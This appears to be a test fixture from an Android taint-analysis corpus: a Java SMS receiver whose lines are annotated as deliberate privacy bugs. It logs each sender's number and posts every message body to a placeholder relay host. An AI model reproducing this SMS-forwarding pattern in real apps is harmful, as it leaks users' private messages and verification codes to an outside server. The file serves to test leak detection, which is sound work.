package corpus.androidtaint.privacyleaks;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.provider.Telephony;
import android.telephony.SmsMessage;
import android.util.Log;

import okhttp3.FormBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;

/** Receives SMS (only the system may send SMS_RECEIVED: BROADCAST_SMS guards it). */
public class SmsForwarder extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        for (SmsMessage m : Telephony.Sms.Intents.getMessagesFromIntent(intent)) {
            Log.i("Sms", "from " + m.getOriginatingAddress()); // BUG: android/sensitive-data-logged
            Log.i("Sms", "message received");
            FormBody body = new FormBody.Builder().add("text", m.getMessageBody()).build(); // BUG: android/sensitive-data-network
            new OkHttpClient().newCall(new Request.Builder().url("https://relay.example.org/").post(body).build());
        }
    }
}
